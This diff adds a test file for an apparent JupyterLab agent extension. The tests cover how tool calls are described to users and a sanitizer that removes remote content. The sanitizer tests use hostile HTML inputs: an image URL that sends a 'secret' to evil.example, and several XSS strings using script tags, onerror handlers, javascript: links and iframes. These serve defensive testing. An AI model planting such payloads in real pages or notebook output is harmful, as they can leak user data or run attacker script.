@@ -1,0 +1,109 @@
+import { nullTranslator } from '@jupyterlab/translation';
+import { Sanitizer } from '@jupyterlab/apputils/lib/sanitizer';
+import type { CallPart, IChange } from '../src/protocol';
+import { withoutRemoteContent } from '../src/sanitizer';
+import { describeCall, duration } from '../src/words';
+
+const trans = nullTranslator.load('jupyter_agent');
+const ORDER = ['a1', 'b2', 'c3', 'd4', 'e5'];
+const locate = (id: string): number | null => ORDER.indexOf(id) + 1 || null;
+
+function said(toolName: string, input: object, rest: object = {}, changes: IChange[] = []): string {
+  const call = {
+    type: 'dynamic-tool',
+    toolCallId: 'toolu_1',
+    toolName,
+    input,
+    state: 'output-available',
+    output: { text: '' },
+    ...rest
+  } as CallPart;
+  const { text, note } = describeCall(call, changes, locate, trans);
+  return note ? `${text} (${note})` : text;
+}
+
+describe('describeCall', () => {
+  it.each([
+    ['get_notebook_state', {}, 'Read the notebook'],
+    ['read_cells', { cell_ids: ['a1', 'c3'] }, 'Read cells 1, 3'],
+    ['search_notebook', { query: 'df' }, 'Searched for “df”'],
+    ['create_cell', { after: 'b2', source: '' }, 'Added a cell after 2'],
+    ['update_cell', { cell_id: 'b2' }, 'Edited cell 2'],
+    ['delete_cell', { cell_id: 'gone' }, 'Deleted a cell'],
+    ['run_cells', { cell_ids: ['d4', 'b2', 'c3'] }, 'Ran cells 2–4'],
+    ['run_cells', {}, 'Ran all cells'],
+    ['inspect_variables', { names: ['df', 'x'] }, 'Looked at df, x'],
+    ['something_new', {}, 'Used something_new']
+  ])('says what %s did with %j', (tool, input, words) => {
+    expect(said(tool, input)).toBe(words);
+  });
+
+  it('says what is happening while it happens', () => {
+    const running = { state: 'input-available', output: undefined };
+    expect(said('run_cell', { cell_id: 'b2' }, running)).toBe('Running cell 2…');
+    expect(said('create_cell', undefined!, { state: 'input-streaming' })).toBe('Adding a cell…');
+  });
+
+  it('says how a run ended and how long it took', () => {
+    const output = { text: '', status: 'ok', cell_id: 'b2', seconds: 1.24 };
+    expect(said('run_cell', { cell_id: 'b2' }, { output })).toBe('Ran cell 2 (1.2 s  ok)');
+    const cells = [
+      { cell_id: 'b2', status: 'ok', seconds: 60 },
+      { cell_id: 'c3', status: 'error', seconds: 5 }
+    ];
+    expect(said('run_cells', {}, { output: { text: '', cells } })).toBe(
+      'Ran cells 2–3, stopped at an error in 3 (1 min 5 s  error)'
+    );
+  });
+
+  it('never says that something was done which was refused or failed', () => {
+    expect(said('run_cell', { cell_id: 'b2' }, { state: 'output-denied' })).toBe(
+      'Run cell 2 (not allowed)'
+    );
+    expect(said('update_cell', { cell_id: 'b2' }, { state: 'output-error' })).toBe(
+      'Edit cell 2 (failed)'
+    );
+  });
+
+  it('names a deleted cell by the place that it had', () => {
+    const change = { cell_id: 'x9', kind: 'delete', before: { index: 2 }, after: null };
+    expect(said('delete_cell', { cell_id: 'x9' }, {}, [change as IChange])).toBe('Deleted cell 3');
+  });
+});
+
+describe('duration', () => {
+  it('is short for short ones', () => {
+    expect([0.04, 9.96, 12.4, 75].map(seconds => duration(seconds, trans))).toEqual([
+      '0.0 s',
+      '10.0 s',
+      '12 s',
+      '1 min 15 s'
+    ]);
+  });
+});
+
+describe('withoutRemoteContent', () => {
+  const { sanitize } = withoutRemoteContent(new Sanitizer());
+
+  it('makes links of pictures from elsewhere', () => {
+    const html = sanitize('<p>see <img src="https://evil.example/?q=secret" alt="a plot"></p>');
+    expect(html).not.toContain('<img');
+    expect(html).toContain('>a plot</a>');
+  });
+
+  it.each([
+    '<img src="x" onerror="alert(1)">',
+    '<video poster="https://evil.example/p"></video>',
+    '<img srcset="https://evil.example/p 2x">',
+    '<script>alert(1)</script>',
+    '<a href="javascript:alert(1)">x</a>',
+    '<iframe src="https://evil.example"></iframe>'
+  ])('leaves nothing that loads or runs in %s', dirty => {
+    expect(sanitize(dirty)).not.toMatch(/src|poster|script|onerror|iframe/i);
+  });
+
+  it('keeps pictures that carry their content', () => {
+    const picture = '<img src="data:image/png;base64,AAAA" />';
+    expect(sanitize(picture)).toContain('data:image/png');
+  });
+});
